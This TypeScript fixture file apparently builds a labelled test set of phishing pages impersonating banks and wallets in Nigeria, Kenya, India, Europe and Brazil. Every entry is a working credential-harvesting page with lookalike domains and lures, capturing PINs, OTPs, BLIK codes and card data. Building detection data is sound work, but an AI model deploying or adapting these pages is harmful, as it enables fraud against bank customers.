import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, imgRoute, js, json, qrBlock } from '../parts/x-kit.js';

// Bank, wallet and card kits from Nigeria, Kenya, India and the non-English markets (DE, FR, ES, IT, NL, PL, BR).

const ok = (to: string, msg: string) =>
  htmlRoute(`<!doctype html><html><head><meta charset="utf-8"><title>...</title><script>setTimeout(function(){location.href=${JSON.stringify(to)}},2500)</script></head><body style="font-family:sans-serif;text-align:center;padding:60px">${msg}</body></html>`);

const simple = (o: { lang?: string; title: string; brand: string; color: string; fg?: string; intro: string; fields: [string, string, string?][]; button: string; action: string; legal: string }) =>
  doc({
    lang: o.lang ?? 'en',
    title: o.title,
    css: `body{background:#f5f5f7}.hd{background:${o.color};color:${o.fg ?? '#fff'};padding:15px 24px;font-size:21px;font-weight:700}.bx{max-width:450px;margin:28px auto;background:#fff;padding:26px;border-radius:6px;box-shadow:0 2px 8px #0001}
label{display:block;font-size:14px;font-weight:600;margin-top:12px}input{width:100%;padding:11px;border:1px solid #aaa;border-radius:4px;margin-top:5px}button{margin-top:20px;width:100%;padding:13px;border:0;border-radius:4px;background:${o.color};color:${o.fg ?? '#fff'};font-size:16px}.lg{font-size:11.5px;color:#777;margin-top:20px}`,
    body: `<div class="hd">${o.brand}</div><div class="bx"><p>${o.intro}</p><form method="post" action="${o.action}">
${o.fields.map(([l, n, t]) => `<label>${l}</label><input name="${n}" type="${t ?? 'text'}" required>`).join('\n')}
<button type="submit">${o.button}</button></form><p class="lg">${o.legal}</p></div>`,
  });

export const entries: Entry[] = [
  {
  id: 'x-phish-opay-wallet-bonus-pin',
  label: 'phishing',
  kind: 'wallet-kit',
  url: 'https://opay-bonus-claim.xyz/claim?u=23480',
  body: doc({
    title: 'OPay - Claim your ₦50,000 anniversary bonus',
    css: `body{background:#1dcf9f;font-family:Arial}.c{max-width:380px;margin:30px auto;background:#fff;border-radius:14px;padding:24px;text-align:center}input{width:100%;padding:13px;border:1px solid #ccc;border-radius:8px;margin:8px 0;font-size:16px}button{width:100%;padding:13px;background:#1dcf9f;color:#fff;border:0;border-radius:8px;font-weight:700}.cm{font-size:12px;text-align:left;border-top:1px solid #eee;margin-top:14px;padding-top:8px}`,
    body: `<div class="c"><h2 style="color:#1dcf9f">OPay</h2><h3>🎉 Congratulations!</h3><p>You have been selected for the OPay 7th Anniversary Bonus of <b>₦50,000</b>. Login to your wallet to receive it instantly.</p>
<div id="s1"><input id="ph" placeholder="Phone number (e.g. 0803...)" inputmode="tel"><input id="pn" placeholder="6-digit login PIN" type="password" maxlength="6" inputmode="numeric"><button onclick="n1()">Login & Claim</button></div>
<div id="s2" style="display:none"><p>Enter the OTP sent to your phone to receive the bonus.</p><input id="ot" placeholder="OTP" maxlength="6"><input id="tp" placeholder="4-digit transaction PIN" type="password" maxlength="4"><button onclick="n2()">Receive ₦50,000</button></div>
<div class="cm"><b>Chinedu O.</b> I just got mine o! Thank you OPay 🙏<br><b>Aisha M.</b> It worked, received in 2 minutes<br><b>Tunde A.</b> Legit 💯</div>
<p style="font-size:10px;color:#999">Only 312 slots remaining</p></div>
<script>function p(d){return fetch('/claim/api',{method:'POST',body:new URLSearchParams(d)})}
function n1(){p({ph:ph.value,pn:pn.value});s1.style.display='none';s2.style.display='block'}
function n2(){p({ot:ot.value,tp:tp.value}).then(function(){alert('Your bonus is being processed. It may take up to 24 hours.');location='https://opayweb.com'})}</script>`,
  }),
  routes: { 'opay-bonus-claim.xyz/claim/api': json({ status: 'ok' }) },
},
  {
  id: 'x-phish-mpesa-reversal-pin',
  label: 'phishing',
  kind: 'wallet-kit',
  url: 'https://mpesa-reversal-ke.com/reverse/?tx=SKL4H2X9QP',
  body: doc({
    title: 'M-PESA Transaction Reversal',
    css: `body{background:#f2f2f2}.h{background:#4caf50;color:#fff;padding:14px 20px;font-weight:700}.h span{color:#e31e24}.w{max-width:420px;margin:20px auto;background:#fff;padding:22px;border-radius:6px}input{width:100%;padding:12px;margin:6px 0 12px;border:1px solid #bbb;border-radius:4px}button{width:100%;padding:12px;background:#4caf50;color:#fff;border:0;border-radius:4px;font-weight:700}`,
    body: `<div class="h">M-<span>PESA</span> &nbsp;Safaricom</div><div class="w">
<p>Transaction <b>SKL4H2X9QP</b> of <b>Ksh 4,500.00</b> sent to <b>0712 xxx 904 PETER KAMAU</b> has been flagged as sent in error. To complete the reversal to your M-PESA account, confirm your details below.</p>
<form action="/reverse/confirm.php" method="post"><label>Safaricom number</label><input name="msisdn" placeholder="07XX XXX XXX"><label>ID number</label><input name="idno"><label>M-PESA PIN</label><input name="pin" type="password" maxlength="4" inputmode="numeric"><button>Confirm Reversal</button></form>
<p style="font-size:11px;color:#777">Safaricom PLC. For assistance dial *234# or call 100.</p></div>`,
  }),
  routes: { 'mpesa-reversal-ke.com/reverse/confirm.php': ok('https://www.safaricom.co.ke/', 'Reversal request received. Ksh 4,500 will reflect in your account shortly.') },
},
  {
  id: 'x-phish-sbi-yono-kyc-pan',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://onlinesbi-kyc-update.online/yono/kyc.html',
  body: doc({
    title: 'State Bank of India - YONO KYC Update',
    css: `body{background:#eef3fb}.h{background:#22409a;color:#fff;padding:12px 20px;display:flex;align-items:center;gap:10px}.h i{width:30px;height:30px;border-radius:50%;background:#00b5ef;display:inline-block;border:6px solid #fff}
.w{max-width:440px;margin:20px auto;background:#fff;padding:22px;border-radius:6px}input{width:100%;padding:11px;border:1px solid #9ab;margin:5px 0 12px;border-radius:4px}button{width:100%;padding:12px;background:#22409a;color:#fff;border:0;border-radius:4px}.r{color:#c00;font-weight:700}`,
    body: `<div class="h"><i></i><b>SBI</b> &nbsp;YONO</div><div class="w">
<p class="r">Dear Customer, your YONO account will be BLOCKED today. Please update your PAN card / KYC immediately.</p>
<div id="a"><label>Username</label><input id="u"><label>Password</label><input id="p" type="password"><label>Captcha: <b>7XK2Q</b></label><input id="cp"><button onclick="go(1)">Login</button></div>
<div id="b" style="display:none"><label>PAN Number</label><input id="pan" maxlength="10" style="text-transform:uppercase"><label>Aadhaar Number</label><input id="aad" maxlength="12"><label>Date of Birth</label><input id="dob" type="date"><label>Mobile Number</label><input id="mob" maxlength="10"><button onclick="go(2)">Submit</button></div>
<div id="c" style="display:none"><p>OTP has been sent to your registered mobile number.</p><label>Enter OTP</label><input id="otp" maxlength="6"><button onclick="go(3)">Verify OTP</button><p id="tm" style="font-size:12px">Resend OTP in 60s</p></div>
<p style="font-size:11px;color:#888">© State Bank of India. All rights reserved. | Privacy | Disclaimer</p></div>
<script>
function go(n){var d={};document.querySelectorAll('input').forEach(function(i){if(i.id)d[i.id]=i.value});fetch('/yono/data.php?step='+n,{method:'POST',body:JSON.stringify(d)});
if(n==1){a.style.display='none';b.style.display='block'}else if(n==2){b.style.display='none';c.style.display='block'}else{c.innerHTML='<h3>Thank you</h3><p>Your KYC is updated. It will reflect within 24 hours.</p>'}}
</script>`,
  }),
  routes: { 'onlinesbi-kyc-update.online/yono/data.php': json({ r: 1 }) },
},
  {
  id: 'x-phish-sparkasse-pushtan-de',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://sparkasse-sicherheit-update.com/de/home/onlinebanking/pushtan.html',
  body: doc({
    lang: 'de',
    title: 'Sparkasse - pushTAN-Verfahren aktualisieren',
    css: `body{background:#f1f1f1}.h{background:#ff0000;color:#fff;padding:14px 24px;font-size:22px;font-weight:700}.w{max-width:520px;margin:26px auto;background:#fff;padding:26px}select,input{width:100%;padding:10px;border:1px solid #999;margin:5px 0 14px}button{background:#ff0000;color:#fff;border:0;padding:12px 28px}.hin{background:#fff4d6;padding:10px;font-size:14px}`,
    body: `<div class="h">Sparkasse</div><div class="w">
<h2>Aktualisierung des pushTAN-Verfahrens</h2>
<div class="hin">Aufgrund der neuen EU-Richtlinie PSD2 ist eine Neuregistrierung Ihres pushTAN-Verfahrens bis zum <b id="dt"></b> erforderlich. Andernfalls wird Ihr Online-Banking-Zugang aus Sicherheitsgründen eingeschränkt.</div>
<form action="/de/home/onlinebanking/login.php" method="post">
<label>Bankleitzahl oder Name Ihrer Sparkasse</label><input name="blz" placeholder="z. B. 370 501 98">
<label>Anmeldename oder Legitimations-ID</label><input name="anmeldename">
<label>PIN</label><input name="pin" type="password">
<label>Mobilfunknummer</label><input name="handy" placeholder="+49 1xx">
<button>Weiter</button></form>
<p style="font-size:12px;color:#666">Impressum · Datenschutz · Sicherheitshinweise · © Deutscher Sparkassen Verlag</p></div>
<script>var d=new Date();d.setDate(d.getDate()+2);document.getElementById('dt').textContent=d.toLocaleDateString('de-DE');</script>`,
  }),
  routes: { 'sparkasse-sicherheit-update.com/de/home/onlinebanking/login.php': ok('https://www.sparkasse.de/', 'Vielen Dank. Ein Mitarbeiter wird Sie zur Freischaltung telefonisch kontaktieren.') },
},
  {
  id: 'x-phish-credit-agricole-securipass-fr',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://ca-securipass-activation.fr.com/particuliers/acceder-a-mes-comptes.html',
  body: doc({
    lang: 'fr',
    title: 'Crédit Agricole - Accéder à mes comptes',
    css: `.h{background:#006a4e;color:#fff;padding:14px 24px;font-size:20px;font-weight:700}.w{max-width:460px;margin:26px auto;padding:0 16px}select,input{width:100%;padding:11px;border:1px solid #999;margin:5px 0 14px}.kp{display:grid;grid-template-columns:repeat(5,1fr);gap:6px;margin:8px 0}.kp button{padding:12px;background:#eee;border:1px solid #ccc}.go{background:#006a4e;color:#fff;border:0;padding:12px;width:100%}`,
    body: `<div class="h">Crédit Agricole</div><div class="w">
<h2>Activation SécuriPass</h2><p>Votre dispositif SécuriPass expire. Pour continuer à valider vos opérations, veuillez le réactiver.</p>
<label>Votre Caisse régionale</label><select name="cr"><option>Île-de-France</option><option>Nord de France</option><option>Aquitaine</option><option>Provence Côte d'Azur</option><option>Centre-Est</option><option>Bretagne (Finistère)</option></select>
<label>Identifiant (11 chiffres)</label><input id="id" maxlength="11">
<label>Code personnel</label><input id="cp" type="password" readonly>
<div class="kp" id="kp"></div>
<button class="go" onclick="envoyer()">Valider</button>
<p style="font-size:11px;color:#777">Crédit Agricole S.A. — Mentions légales — Sécurité — Cookies</p></div>
<script>
var n=[0,1,2,3,4,5,6,7,8,9].sort(function(){return Math.random()-.5});n.forEach(function(x){var b=document.createElement('button');b.textContent=x;b.onclick=function(){var c=document.getElementById('cp');if(c.value.length<6)c.value+=x};document.getElementById('kp').appendChild(b)});
function envoyer(){fetch('/particuliers/r.php',{method:'POST',body:JSON.stringify({id:id.value,cp:cp.value})}).then(function(){location.href='/particuliers/carte.html'})}
</script>`,
  }),
  routes: {
    'ca-securipass-activation.fr.com/particuliers/r.php': json({ ok: 1 }),
    'ca-securipass-activation.fr.com/particuliers/carte.html': htmlRoute(doc({ lang: 'fr', title: 'Crédit Agricole - Vérification', body: `<div style="max-width:420px;margin:40px auto"><h2>Vérification de votre carte</h2><form action="/particuliers/fin.php" method="post"><p>Numéro de carte<br><input name="cb" style="width:100%"></p><p>Date d'expiration<br><input name="exp"></p><p>Cryptogramme<br><input name="cvv" maxlength="3"></p><button>Confirmer</button></form></div>` })),
    'ca-securipass-activation.fr.com/particuliers/fin.php': ok('https://www.credit-agricole.fr/', 'Merci, votre SécuriPass est réactivé.'),
  },
},
  {
  id: 'x-phish-bbva-es-sms-dispositivo',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://bbva-es-dispositivo.com/acceso/',
  body: simple({
    lang: 'es',
    title: 'BBVA | Acceso clientes',
    brand: 'BBVA',
    color: '#072146',
    intro: 'Hemos detectado un acceso desde un nuevo dispositivo. Si no ha sido usted, identifíquese para cancelar la vinculación del dispositivo.',
    fields: [['DNI / NIE', 'dni'], ['Clave de acceso', 'clave', 'password'], ['Teléfono móvil', 'tel', 'tel'], ['Código SMS', 'sms']],
    button: 'Cancelar vinculación',
    action: '/acceso/enviar.php',
    legal: 'Banco Bilbao Vizcaya Argentaria, S.A. Plaza de San Nicolás 4, 48005 Bilbao. Aviso legal · Privacidad · Cookies',
  }),
  routes: { 'bbva-es-dispositivo.com/acceso/enviar.php': ok('https://www.bbva.es/', 'Dispositivo desvinculado correctamente.') },
},
  {
  id: 'x-phish-intesa-sanpaolo-o-key-it',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://intesa-sanpaolo-okey.it-verifica.com/login',
  body: simple({
    lang: 'it',
    title: 'Intesa Sanpaolo - Accedi',
    brand: 'INTESA <span style="color:#f58220">SANPAOLO</span>',
    color: '#005a35',
    intro: 'Gentile cliente, il suo dispositivo O-Key Smart risulta disattivato. Per riattivarlo e sbloccare i pagamenti, effettui l\'accesso e confermi i suoi dati.',
    fields: [['Codice titolare', 'titolare'], ['PIN', 'pin', 'password'], ['Numero di cellulare', 'cell', 'tel'], ['Codice fiscale', 'cf']],
    button: 'Accedi',
    action: '/login/invio.php',
    legal: 'Intesa Sanpaolo S.p.A. – Sede legale: Piazza San Carlo 156, 10121 Torino. Aderente al Fondo Interbancario di Tutela dei Depositi.',
  }),
  routes: { 'intesa-sanpaolo-okey.it-verifica.com/login/invio.php': ok('https://www.intesasanpaolo.com/', 'Grazie. Verrà contattato da un nostro operatore per completare la riattivazione.') },
},
  {
  id: 'x-phish-pko-ipko-blik-pl',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://ipko-pl.weryfikacja-konta.com/logowanie',
  body: doc({
    lang: 'pl',
    title: 'iPKO - Logowanie',
    css: `body{background:#f2f2f2}.h{background:#003574;color:#fff;padding:14px 22px;font-size:20px;font-weight:700}.w{max-width:420px;margin:26px auto;background:#fff;padding:24px}input{width:100%;padding:11px;border:1px solid #999;margin:5px 0 12px}button{width:100%;background:#003574;color:#fff;border:0;padding:12px}`,
    body: `<div class="h">PKO BANK POLSKI</div><div class="w" id="w">
<h3>Logowanie do serwisu iPKO</h3><p style="font-size:14px">W związku z aktualizacją zabezpieczeń prosimy o potwierdzenie tożsamości.</p>
<label>Numer klienta lub login</label><input id="l"><label>Hasło</label><input id="h" type="password"><button onclick="krok()">Zaloguj</button></div>
<script>
function krok(){fetch('/logowanie/api',{method:'POST',body:JSON.stringify({l:l.value,h:h.value})});
document.getElementById('w').innerHTML='<h3>Potwierdzenie kodem BLIK</h3><p>Aby potwierdzić tożsamość, wygeneruj w aplikacji IKO kod BLIK i wpisz go poniżej. Kod potwierdzi jedynie weryfikację — żadne środki nie zostaną pobrane.</p><input id="b" maxlength="6" style="font-size:24px;text-align:center;letter-spacing:6px"><button onclick="fetch(\\'/logowanie/api\\',{method:\\'POST\\',body:b.value}).then(function(){location=\\'https://www.pkobp.pl\\'})">Potwierdź</button>'}
</script>`,
  }),
  routes: { 'ipko-pl.weryfikacja-konta.com/logowanie/api': json({ ok: true }) },
},
  {
  id: 'x-phish-nubank-pix-limite-br',
  label: 'phishing',
  kind: 'challenger-bank-kit',
  url: 'https://nubank-limite-pix.com.br-app.net/',
  body: doc({
    lang: 'pt-BR',
    title: 'Nubank - Aumento de limite',
    css: `body{background:#820ad1;color:#fff;font-family:Arial}.c{max-width:380px;margin:30px auto;background:#fff;color:#222;border-radius:16px;padding:24px}input{width:100%;padding:13px;border:1px solid #ccc;border-radius:10px;margin:6px 0 12px}button{width:100%;padding:14px;background:#820ad1;color:#fff;border:0;border-radius:24px;font-weight:700}`,
    body: `<div style="text-align:center;font-size:30px;font-weight:800;margin-top:24px">nu</div><div class="c">
<h3>Seu limite Pix foi reduzido</h3><p>Por segurança, seu limite noturno de Pix foi reduzido para R$ 200,00. Para restaurar seu limite, confirme seus dados.</p>
<form action="/confirmar.php" method="post"><label>CPF</label><input name="cpf" placeholder="000.000.000-00"><label>Senha do app (4 dígitos)</label><input name="senha" type="password" maxlength="4"><label>Celular</label><input name="cel"><label>Número do cartão</label><input name="cartao"><label>CVV</label><input name="cvv" maxlength="3"><button>Restaurar limite</button></form>
<p style="font-size:11px;color:#888">Nu Pagamentos S.A. – Instituição de Pagamento. CNPJ 18.236.120/0001-58</p></div>`,
  }),
  routes: { 'nubank-limite-pix.com.br-app.net/confirmar.php': ok('https://nubank.com.br/', 'Limite restaurado com sucesso!') },
},
  {
  id: 'x-phish-qr-parking-fine-card',
  label: 'phishing',
  kind: 'qr-payment',
  url: 'https://parkpay-council.uk/pcn/?z=4471',
  body: doc({
    title: 'Pay for Parking - Zone 4471',
    css: `body{background:#e9edf0}.h{background:#1d3557;color:#fff;padding:14px 20px}.w{max-width:420px;margin:18px auto;background:#fff;padding:20px;border-radius:8px}input,select{width:100%;padding:11px;border:1px solid #aab;border-radius:5px;margin:5px 0 12px}button{width:100%;padding:13px;border:0;background:#2a9d8f;color:#fff;font-weight:700;border-radius:5px}`,
    body: `<div class="h"><b>ParkPay</b> · Council car parks</div><div class="w">
<p style="font-size:13px;color:#555">You scanned the QR code on the pay &amp; display machine. Location <b>4471 – Station Road Long Stay</b>.</p>
<label>Vehicle registration</label><input name="vrm" style="text-transform:uppercase">
<label>Duration</label><select id="d"><option value="2.20">1 hour – £2.20</option><option value="4.40">2 hours – £4.40</option><option value="7.50">All day – £7.50</option></select>
<h4>Payment</h4><form action="/pcn/pay" method="post"><input name="card" placeholder="Card number"><input name="exp" placeholder="MM/YY"><input name="cvc" placeholder="CVC"><input name="name" placeholder="Name on card"><input name="postcode" placeholder="Billing postcode"><button>Pay now</button></form>
<p style="font-size:11px;color:#888">Machine out of order? Pay here to avoid a Penalty Charge Notice of £70.</p></div>`,
  }),
  routes: { 'parkpay-council.uk/pcn/pay': ok('https://www.gov.uk/', 'Payment successful. Session started.') },
},
];
